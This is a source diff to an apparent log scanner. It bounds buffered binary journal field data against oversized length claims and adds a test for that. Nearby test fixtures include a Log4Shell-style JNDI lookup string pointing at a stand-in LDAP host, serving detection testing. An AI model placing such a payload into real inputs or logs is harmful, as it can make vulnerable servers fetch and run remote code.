@@ -382,12 +382,16 @@ impl State<'_> {
     fn journal_line(&mut self, raw: &[u8], ends_line: bool, line: u64, offset: u64) {
         let j = &mut self.journal;
         if let Some((is_msg, need, mut data)) = j.binary.take() {
-            // Binary data may hold newlines: the line cut is part of the data.
+            // Binary data may hold newlines: the line cut is part of the data. What is kept
+            // is bounded by the join limit, whatever length the field claims.
             let take = (raw.len() as u64).min(need) as usize;
-            data.extend_from_slice(&raw[..take]);
+            let room = self.cfg.max_join.saturating_sub(data.len());
+            data.extend_from_slice(&raw[..take.min(room)]);
             let mut left = need - take as u64;
             if left > 0 && ends_line {
-                data.push(b'\n');
+                if data.len() < self.cfg.max_join {
+                    data.push(b'\n');
+                }
                 left -= 1;
             }
             if left > 0 {
@@ -906,5 +910,18 @@ not a cri line ${jndi:ldap://stray.example/x}\n";
             .filter_map(|h| h.found.jndi.as_ref().map(|j| (h.locator.line, j.host.clone())))
             .collect();
         assert_eq!(jndi, [(Some(1), Some("j.example".to_string()))]);
+    }
+
+    #[test]
+    fn journal_binary_field_claiming_a_huge_length_is_bounded() {
+        let mut log = b"__CURSOR=s=1\nMESSAGE\n".to_vec();
+        log.extend((1u64 << 40).to_le_bytes());
+        log.extend(std::iter::repeat(b'a').take(200_000));
+        log.push(b'\n');
+        let engine = Engine::builtin().unwrap();
+        let cfg = ScanConfig { max_join: 4096, ..Default::default() };
+        let scan = scan_stream(&log[..], LogFormat::Journal, &engine, &cfg, &Locator::artifact("j"), 0);
+        assert!(scan.hits.is_empty());
+        assert_eq!(scan.bytes, log.len() as u64);
     }
 }
